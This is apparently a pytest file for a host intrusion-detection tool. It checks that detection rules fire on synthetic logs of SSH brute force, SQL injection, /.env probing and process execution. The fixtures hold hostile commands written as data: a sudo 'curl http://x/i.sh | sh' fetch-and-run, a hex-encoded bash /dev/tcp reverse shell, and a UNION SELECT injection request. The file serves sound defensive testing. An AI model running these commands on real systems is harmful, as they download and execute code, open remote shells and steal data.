"""Batch detection over a real DuckDB store, the `detect` scanner, and `hostwarden rules`."""

from __future__ import annotations

import json
from pathlib import Path

from typer.testing import CliRunner

from hostwarden.commands.rules import app
from hostwarden.core.chunks import Chunk
from hostwarden.core.records import ecs_records
from hostwarden.core.sink import AlertPath
from hostwarden.detect.batch import detect_store
from hostwarden.detect.ruleset import load_rules
from hostwarden.normalize.source import context_for
from hostwarden.pipelines.ingest import ingest_chunks
from hostwarden.pipelines.scan.detections import DetectionScanner
from hostwarden.pipelines.scan.logs import LogScanner
from hostwarden.scan.base import ScanContext
from hostwarden.store.eventstore import EventStore
from hostwarden.store.sink import StoreResults, appender

AUTH = [f"Nov 28 10:00:{i:02d} web1 sshd[10{i}]: Failed password for root from 203.0.113.9 port 4{i}22 ssh2"
        for i in range(8)]
AUTH += [
    "Nov 28 10:01:00 web1 sshd[200]: Accepted password for root from 203.0.113.9 port 5022 ssh2",
    "Nov 28 10:01:05 web1 sudo:     root : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/bin/sh -c curl http://x/i.sh | sh",
    "Nov 28 11:00:00 web1 sshd[300]: Failed password for alice from 192.0.2.10 port 6022 ssh2",
    "Nov 28 11:00:09 web1 sshd[300]: Accepted password for alice from 192.0.2.10 port 6022 ssh2",
]
ACCESS = [
    '198.51.100.3 - - [28/Nov/2026:10:00:00 +0000] "GET /item.php?id=1+UNION+SELECT+user,pass+FROM+users HTTP/1.1" 200 512 "-" "sqlmap/1.7"',
    '192.0.2.50 - - [28/Nov/2026:10:00:01 +0000] "GET /search?q=select+chair HTTP/1.1" 200 2048 "-" "Mozilla/5.0"',
    '198.51.100.4 - - [28/Nov/2026:10:00:02 +0000] "GET /.env HTTP/1.1" 404 0 "-" "Mozilla/5.0"',
]


def _root(tmp_path: Path) -> Path:
    log = tmp_path / "root" / "var" / "log"
    (log / "nginx").mkdir(parents=True)
    (log / "auth.log").write_text("\n".join(AUTH) + "\n")
    (log / "nginx" / "access.log").write_text("\n".join(ACCESS) + "\n")
    return tmp_path / "root"


def test_batch_over_the_store_appends_alerts_once(tmp_path: Path) -> None:
    with EventStore(tmp_path / "data") as store:
        ingest_chunks(store, [Chunk("/var/log/auth.log", 0, ("\n".join(AUTH) + "\n").encode())],
                      ctx=context_for("/var/log/auth.log"))
        result = detect_store(store, load_rules())
        names = {a["rule.name"] for a in result.alerts}
        assert {"SSH login success after brute force", "SSH brute force (fast)", "Root login over SSH",
                "Suspicious command run with sudo"} <= names
        assert result.stored == len(result.alerts)
        stored = store.query('SELECT "rule.name", "event.severity", "rule.author" FROM events WHERE "event.kind" = \'alert\'')
        assert ("SSH login success after brute force", 1, "hostwarden") in stored
        l1 = next(a for a in result.alerts if a["event.severity"] == 1)
        follow = json.loads(l1["hostwarden.detail"])["follow_up"]
        assert [f["action"] for f in follow] == ["sudo_command"] and "curl" in follow[0]["excerpt"]
        assert detect_store(store, load_rules()).stored == 0  # same alert ids: deduplicated
        # a time range that excludes the burst finds nothing of it
        from datetime import UTC, datetime
        later = detect_store(store, load_rules(), since=datetime(2026, 11, 28, 10, 30, tzinfo=UTC), append=False)
        assert "SSH brute force (fast)" not in {a["rule.name"] for a in later.alerts}


def _check_findings(findings: list[dict]) -> None:
    by_title = {f["rule.name"]: f for f in findings}
    l1 = by_title["SSH login success after brute force"]
    assert l1["hostwarden.grade"] == "L1" and l1["source.ip"] == "203.0.113.9"
    assert l1["rule.author"] == "hostwarden"
    assert "compromised" in l1["hostwarden.fix"]
    assert "SQL injection attempt in a web request" in by_title
    assert "Sensitive file probing" in by_title
    assert all(f.get("source.ip") != "192.0.2.50" for f in findings)  # select+chair
    assert all(f.get("source.ip") != "192.0.2.10" for f in findings)  # one typo, then success
    assert json.dumps(by_title["Web scanner or bad bot user agent"]["hostwarden.evidence"])


def test_scanner_ingests_itself_without_a_data_dir(tmp_path: Path) -> None:
    _check_findings(ecs_records(DetectionScanner().scan(ScanContext(root=_root(tmp_path)))))


def test_scanner_reuses_the_log_scanners_store(tmp_path: Path) -> None:
    """The detection scanner reads the rows the log scanner stored; its alerts, sent down the alert
    path with a store sink (as the scan runner does), are stored beside them, one per finding."""
    ctx = ScanContext(root=_root(tmp_path), data_dir=tmp_path / "data")
    ecs_records(LogScanner().scan(ctx))
    scanner = DetectionScanner()
    findings = ecs_records(scanner.scan(ctx))
    _check_findings(findings)
    assert [a.id for a in scanner.alerts] and len(scanner.alerts) == len(findings)
    with EventStore(tmp_path / "data") as store:
        assert store.query("SELECT count(*) FROM events WHERE \"event.kind\" = 'alert'")[0][0] == 0
        AlertPath([StoreResults(appender(store, "default"))]).emit(scanner.alerts)
        assert store.query("SELECT count(*) FROM events WHERE \"event.kind\" = 'alert'")[0][0] == len(findings)


def test_rules_cli(tmp_path: Path) -> None:
    runner = CliRunner()
    listed = runner.invoke(app, ["list", "--format", "json"])
    assert listed.exit_code == 0
    doc = json.loads(listed.stdout)
    assert "T1110" in doc["techniques"] and len(doc["rules"]) >= 20
    tested = runner.invoke(app, ["test"])
    assert tested.exit_code == 0 and "samples passed" in tested.stdout
    bad = tmp_path / "bad.yml"
    bad.write_text("title: broken\nlogsource: {product: linux}\ndetection: {sel: {a: 1}, condition: sel and nothere}\n")
    checked = runner.invoke(app, ["check", str(bad)])
    assert checked.exit_code == 1 and "CSA-5003" in checked.stderr and "broken" in checked.stderr
    missing = runner.invoke(app, ["check", str(tmp_path / "nope.yml")])
    assert missing.exit_code == 2 and "CSA-5003" in missing.stderr


def test_auditd_process_rules_fire_on_parsed_audit_log(tmp_path: Path) -> None:
    root = tmp_path / "root"
    audit = root / "var" / "log" / "audit"
    audit.mkdir(parents=True)
    shell = b"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1".hex().upper()
    audit.joinpath("audit.log").write_text(
        'type=SYSCALL msg=audit(1764324000.100:901): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 '
        'items=2 ppid=1 pid=4242 auid=1000 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) '
        'ses=4 comm="bash" exe="/usr/bin/bash" key="exec"\n'
        f'type=EXECVE msg=audit(1764324000.100:901): argc=3 a0="bash" a1="-c" a2={shell}\n'
        'type=SYSCALL msg=audit(1764324001.100:902): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 '
        'items=2 ppid=1 pid=4243 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 '
        'ses=4 comm="ls" exe="/usr/bin/ls" key="exec"\n'
        'type=EXECVE msg=audit(1764324001.100:902): argc=2 a0="ls" a1="-la"\n'
    )
    findings = ecs_records(DetectionScanner().scan(ScanContext(root=root)))
    assert [f["rule.name"] for f in findings] == ["Reverse shell started"]
    assert findings[0]["hostwarden.grade"] == "L1"
    assert "/dev/tcp/" in json.dumps(findings[0]["hostwarden.evidence"])
